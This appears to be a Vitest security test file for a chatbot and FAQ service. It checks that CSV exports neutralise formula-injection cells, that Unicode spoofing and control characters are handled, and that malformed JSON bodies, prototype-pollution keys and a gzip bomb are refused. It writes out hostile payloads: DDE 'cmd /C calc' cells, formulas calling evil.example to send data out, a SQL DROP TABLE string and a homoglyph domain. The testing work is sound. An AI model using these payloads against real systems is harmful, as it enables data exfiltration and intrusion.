import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { sql } from 'drizzle-orm'
import { rowsOf } from '#server/db/client'
import { parseCsv } from '#server/services/faqs/csv'
import { startApi, type ApiHarness, type SignedInClient } from '../support/api'
import { configure } from '../support/rag-config'
import { rag, startRagServer } from '../support/rag-server'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 })

let api: ApiHarness
let admin: SignedInClient
let anna: SignedInClient
beforeAll(async () => {
  api = await startApi()
  admin = await api.admin()
  anna = await api.customer()
  // No FAQ but those of a test: what it sends is not to be answered by chance.
  for (const { id } of (await admin.get('/api/admin/faqs?limit=100')).body.items) await admin.delete(`/api/admin/faqs/${id}`)
})
afterAll(() => api.close())

/** Cells that a spreadsheet runs, asks another machine with, or takes for two. */
const formulas = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"go")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '+30 210 1234567', '-', '=', '\'=1+1', '\'\'=1+1', '"=1+1"', '","=1+1', '";=1+1', 'a\n=1+1', 'a\r\n=1+1', 'a\t=1+1', '"\n=1+1', '""",=1+1', ';=1+1', ',=1+1',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '\u00A0=1+1', '\u3000=1+1', '\uFEFF=1+1', '=\u200B1', '%0A=1+1', '\\=1+1', '{=1+1}',
]
const isRun = (cell: string) => /^[\s\uFEFF]*[=+\-@\t\r\n＝＋－＠]/.test(cell)

/** Texts that are right as Unicode and look wrong, read backwards, grow, or vanish. */
const traps = {
  'right-to-left override': 'invoice\u202Egnp.exe\u202C', 'left alone override': 'abc\u202E', 'isolates': '\u2066\u2067\u2068abc\u2069\u2069\u2069', 'zero width': 'pay\u200Bpal\u200C\u200D\u2060\uFEFFx', 'only zero width': '\u200B\u200D', 'soft hyphen': 'a\u00ADb', 'tags': 'a\u{E0041}\u{E0042}\u{E007F}', 'variation selectors': 'a\uFE0F\u{E0100}',
  'stacked marks': `Z${'\u0301'.repeat(500)}`, 'family emoji': '👨‍👩‍👧‍👦🏳️‍🌈🇬🇷', 'astral': '𝕳𝖊𝖑𝖑𝖔 𠀀 𒐫', 'composed and not': 'é e\u0301 ﬁ Å', 'Greek': 'ΆΈ ΐΰ ς Σ ϐ ͅ ΑΙ\u0345', 'Turkish': 'İıIi', 'separators': 'a\u2028b\u2029c', 'noncharacters': 'a\uFFFEb\uFFFF\u{1FFFE}', 'private use': '\uE000\u{F0000}', 'replacement': 'a\uFFFDb', 'lookalikes': 'раураl.com', 'long ligature': '\uFDFA'.repeat(50), 'JSON escapes': '\\u0000 \\" \\\\ \\ud800', 'SQL': '\'; DROP TABLE messages; -- $1 $$ %s {} \\x00 E\'\\\\\'', 'LIKE': '%_\\%', 'placeholders': '<EMAIL_1> [[PHONE_1]] {{0}}', 'proto': '__proto__ constructor toString',
}
const refusedTexts = { 'NUL': 'a\u0000b', 'bell': 'a\u0007b', 'escape': '\u001B[31mred', 'delete': 'a\u007Fb', 'C1': 'a\u009Bb', 'high surrogate alone': 'a\uD800b', 'low surrogate alone': 'a\uDC00b', 'surrogates the wrong way': 'a\uDC00\uD800b' }

describe('cells of an export', () => {
  it('run no formula, and come back from a file of FAQs unchanged', async () => {
    // A question is trimmed, and compared without case: each has words of its own.
    const faqs = formulas.map((text, n) => ({ question: `${text} q${n}`, answer: `${text} a${n}`, phrasings: [`${text} p${n}`] }))
    for (const faq of faqs) expect((await admin.post('/api/admin/faqs', faq)).status, faq.question).toBe(201)
    const { text } = await admin.request('GET', '/api/admin/faqs/export?format=csv')
    const records = parseCsv(text)
    expect(records).toHaveLength(faqs.length + 1)
    expect(new Set(records.map(record => record.length)).size, 'no text has become two cells').toBe(1)
    expect(records.flat().filter(isRun)).toEqual([])
    expect((await admin.post('/api/admin/faqs/import', text, { 'content-type': 'text/csv' })).body).toMatchObject({ imported: true, rows: faqs.length, created: 0, updated: 0, unchanged: faqs.length })
    for (const faq of (await admin.get('/api/admin/faqs?limit=100')).body.items) await admin.delete(`/api/admin/faqs/${faq.id}`)
  })

  it('of ratings run none either: question, reply, comment and name', async () => {
    const service = await startRagServer()
    await configure({ ragApiUrl: service.url, ragApiFormat: 'plain', ragTimeoutMs: 20_000 })
    for (const [n, text] of formulas.entries()) {
      const customer = await api.customer()
      await customer.patch('/api/account/profile', { name: text })
      service.always(rag.answer(`${text} reply`))
      const reply = await customer.post('/api/chatbot/messages', { message_text: `${text} ${n}` })
      expect(reply.body.source, text).toBe('rag')
      expect((await customer.post('/api/chatbot/feedback', { message_id: reply.body.message_id, value: 'down', comment: text })).status).toBe(200)
    }
    const records = parseCsv((await admin.request('GET', '/api/admin/feedback/export?format=csv')).text)
    expect(records).toHaveLength(formulas.length + 1)
    expect(new Set(records.map(record => record.length)).size).toBe(1)
    expect(records.flat().filter(isRun)).toEqual([])
    await configure({ ragApiUrl: null })
    await service.stop()
  })
})

describe('Unicode', () => {
  it.each(Object.entries(traps))('%s: what was written is stored, polled and exported as it was', async (_, text) => {
    const customer = await api.customer()
    const sent = await customer.post('/api/chatbot/messages', { message_text: `${text}.` })
    expect(sent.status, sent.text).toBe(200)
    const messages = `/api/chatbot/conversations/${sent.body.conversation_id}`
    const stored = (await customer.get(`${messages}/messages`)).body[0].text
    expect(stored).toBe(`${text}.`.trim())
    await customer.post('/api/chatbot/feedback', { message_id: sent.body.message_id, value: 'down', comment: `${text}.` })
    expect((await customer.get(`${messages}/transcript?format=json`)).text).toContain(JSON.stringify(stored).slice(1, -1))
    expect((await customer.request('GET', `${messages}/transcript?format=txt`)).text).toContain(stored.split('\n')[0])
    expect((await customer.request('GET', `${messages}/transcript?format=pdf`)).status).toBe(200)
    expect((await customer.request('GET', '/api/account/export?format=json')).text).toContain(JSON.stringify(stored).slice(1, -1))
    const rows = parseCsv((await admin.request('GET', '/api/admin/feedback/export?format=csv')).text)
    expect(rows.flat().flatMap(cell => [cell, cell.replace(/^'/, '')])).toContain(stored)
    for (const path of ['conversations', 'feedback', 'unanswered', 'users', 'audit']) expect((await admin.get(`/api/admin/${path}?limit=100`)).status, path).toBe(200)
    expect((await admin.get(`/api/admin/conversations?q=${encodeURIComponent(text.slice(0, 100))}`)).status).toBe(200)
  })

  it.each(Object.entries(refusedTexts))('%s: is refused with a reason, and nothing is stored', async (_, text) => {
    const customer = await api.customer()
    const refused = await customer.post('/api/chatbot/messages', { message_text: text })
    expect(refused).toMatchObject({ status: 400, body: { code: 'VALIDATION_ERROR', details: [{ path: 'message_text', message: expect.stringContaining('Remove the') }] } })
    expect((await customer.get('/api/chatbot/conversations')).body).toEqual([])
    expect((await customer.patch('/api/account/profile', { name: text })).status).toBe(400)
    expect((await admin.post('/api/admin/faqs', { question: text, answer: text })).status).toBe(400)
    expect((await admin.post('/api/admin/faqs/import', JSON.stringify([{ question: text, answer: 'x' }]), { 'content-type': 'application/json' })).status).toBe(400)
    const asked = encodeURIComponent(text.toWellFormed())
    for (const path of ['conversations?q', 'conversations?customer', 'conversations?cursor', 'feedback?cursor', 'users?q', 'users?cursor', 'faqs?q', 'faqs?cursor', 'unanswered?cursor', 'outbox?cursor', 'audit?actor', 'audit?entity', 'audit?entity_id', 'audit?cursor', 'analytics?time_zone']) expect([200, 400], path).toContain((await admin.get(`/api/admin/${path}=${asked}`)).status)
  })

  it.each(Object.entries(refusedTexts))('%s: is no part of an address or a key of the RAG service, and goes from the page a message was sent on', async (_, text) => {
    const { version } = (await admin.get('/api/admin/config')).body
    for (const field of ['rag_api_url', 'rag_feedback_url', 'rag_api_key']) {
      const refused = await admin.put('/api/admin/config', { version, [field]: field === 'rag_api_key' ? text : `http://127.0.0.1:9/${text}` })
      expect(refused).toMatchObject({ status: 400, body: { details: [{ path: field, message: expect.stringContaining('Remove the control characters') }] } })
    }
    const customer = await api.customer()
    expect((await customer.post('/api/chatbot/messages', { message_text: 'Hello', page: `/services/${text}` })).status).toBe(200)
    expect(await rowsOf(sql`select page from messages where customer_id = ${customer.user.id}::uuid and sender = 'customer'`)).toEqual([{ page: `/services/${text.replace(/[^\w[]/g, '')}` }])
  })

  it('of a RAG answer is cleaned instead: the customer gets what can be stored', async () => {
    const service = await startRagServer(rag.answer('From\u0000 the \uD800documents\u001B[31m.', [{ title: 'A\u0000\uDC00 title', url: 'https://ok.example/' }]))
    await configure({ ragApiUrl: service.url, ragApiFormat: 'plain', ragTimeoutMs: 20_000 })
    const reply = await anna.post('/api/chatbot/messages', { message_text: 'zxqv brimble' })
    expect(reply.body).toMatchObject({ source: 'rag', text: 'From the documents[31m.', citations: [{ title: 'A title', url: 'https://ok.example/' }] })
    await configure({ ragApiUrl: null })
    await service.stop()
  })
})

describe('bodies made to break a parser', () => {
  const send = (body: string | Buffer, headers: Record<string, string> = {}) => fetch(`${api.origin}/api/chatbot/messages`, { method: 'POST', body: body as BodyInit, headers: { 'content-type': 'application/json', 'cookie': `vb_session=${anna.cookies.get('vb_session')}`, ...headers } })
  const deep = (open: string, close: string, depth: number, inside = '1') => open.repeat(depth) + inside + close.repeat(depth)

  it.each([
    ['10,000 lists', deep('[', ']', 10_000)],
    ['30,000 lists', deep('[', ']', 30_000)],
    ['10,000 objects', deep('{"a":', '}', 10_000)],
    ['10,000 lists in the text', `{"message_text":${deep('[', ']', 10_000)}}`],
    ['60,000 lists that never close', '['.repeat(60_000)],
    ['a number of 60,000 digits as the text', `{"message_text":${'9'.repeat(60_000)}}`],
    ['1e999999 as the text', '{"message_text":1e999999}'],
    ['a prototype instead of fields', '{"__proto__":{"message_text":"hello"}}'],
    ['a constructor instead of fields', '{"constructor":{"prototype":{"message_text":"hello"}}}'],
    ['a list', '["message_text","hello"]'],
    ['null', 'null'],
    ['nothing', ''],
    ['two documents', '{"message_text":"a"}{"message_text":"b"}'],
    ['NaN', '{"message_text":NaN}'],
    ['bytes that are no UTF-8', Buffer.from([0x7B, 0x22, 0xC3, 0x28, 0x22, 0x7D])],
    ['UTF-16', Buffer.from('{"message_text":"hello"}', 'utf16le')],
  ])('%s: 400 in our words', async (_, body) => {
    const answer = await send(body)
    expect(answer.status).toBe(400)
    expect(await answer.json()).toMatchObject({ code: 'VALIDATION_ERROR', error: expect.any(String) })
  })

  it('keys given twice: the last counts; __proto__ beside real fields changes nothing', async () => {
    const answer = await (await send('{"message_text":"first","message_text":"second","__proto__":{"isAdmin":true},"constructor":1}')).json() as { conversation_id: string }
    const messages = (await anna.get(`/api/chatbot/conversations/${answer.conversation_id}/messages?limit=100`)).body as { text: string }[]
    expect(messages.map(message => message.text)).toContain('second')
    expect(messages.map(message => message.text)).not.toContain('first')
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined()
  })

  it('packed bodies are never unpacked: a bomb is as small as it came', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20))
    expect(bomb.byteLength).toBeLessThan(70_000)
    for (const encoding of ['gzip', 'br', 'deflate']) {
      const answer = await send(gzipSync('{"message_text":"hello"}'), { 'content-encoding': encoding })
      expect(answer.status).toBe(400)
      expect(await answer.json()).toMatchObject({ code: 'VALIDATION_ERROR', error: expect.stringContaining('UTF-8') })
    }
    expect([400, 413]).toContain((await send(bomb, { 'content-encoding': 'gzip' })).status)
  })

  it.each([
    ['10,000 lists', deep('[', ']', 10_000), 'application/json'],
    ['a million lists', '['.repeat(1_000_000), 'application/json'],
    ['a row of 10,000 objects', `[${deep('{"question":', '}', 10_000)}]`, 'application/json'],
    ['prototypes', '[{"__proto__":{"question":"q","answer":"a"}}]', 'application/json'],
    ['a million quotes', '"'.repeat(1_000_001), 'text/csv'],
    ['a million commas', ','.repeat(1_000_000), 'text/csv'],
    ['100,000 empty rows', `question,answer\n${',\n'.repeat(100_000)}`, 'text/csv'],
    ['columns named like a prototype', '__proto__,constructor,question,answer\na,b,,\n', 'text/csv'],
  ])('a file of %s is refused, and nothing is stored', async (_, body, type) => {
    const answer = await admin.post('/api/admin/faqs/import', body, { 'content-type': type })
    expect([200, 400, 413], answer.text.slice(0, 300)).toContain(answer.status)
    if (answer.status === 200) expect(answer.body).toMatchObject({ imported: false, created: 0 })
    expect((await admin.get('/api/admin/faqs?limit=100')).body.items).toEqual([])
  })
})
